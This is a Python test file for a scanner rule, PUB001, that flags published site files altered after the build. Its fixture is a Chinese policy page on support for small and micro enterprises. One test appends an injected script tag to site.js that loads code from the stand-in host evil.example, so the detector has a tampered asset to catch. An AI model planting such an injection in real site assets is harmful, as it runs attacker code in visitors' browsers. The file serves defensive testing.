"""PUB001: a file on the site that is not what the gated build wrote."""

from __future__ import annotations

from tests.rescankit import Published, page_html, published_fixture  # noqa: F401
from tests.webkit import net_guard_fixture  # noqa: F401

BODY = "<p>为进一步优化营商环境，支持中小微企业发展，现就有关事项通知如下。</p>"


def test_fires_when_a_page_or_a_script_was_changed_on_the_server(published: Published, net_guard: object) -> None:
    published.home()
    published.write("policies/zhongxiaowei/index.html", page_html("关于支持中小微企业发展的若干措施", BODY))
    published.write("assets/site.js", "console.log('site');\n")
    published.manifest({"policies/zhongxiaowei/index.html": "content/policies/2026-03-12-zhongxiaowei-qiye.md"})
    published.write("policies/zhongxiaowei/index.html", page_html("关于支持中小微企业发展的若干措施",
                                                                 BODY.replace("中小微企业", "中小企业")))
    published.write("assets/site.js", "console.log('site');\ndocument.write('<script src=//evil.example/x.js>');\n")
    found = published.findings("PUB001")
    assert sorted(f.path.rsplit("site/", 1)[1] for f in found) == ["assets/site.js", "policies/zhongxiaowei/index.html"]
    page = next(f for f in found if f.path.endswith("index.html"))
    assert "content/policies/2026-03-12-zhongxiaowei-qiye.md" in page.message


def test_quiet_when_the_site_is_what_the_build_wrote(published: Published, net_guard: object) -> None:
    published.home()
    published.write("policies/zhongxiaowei/index.html", page_html("关于支持中小微企业发展的若干措施", BODY))
    published.manifest()
    assert published.findings("PUB001") == []
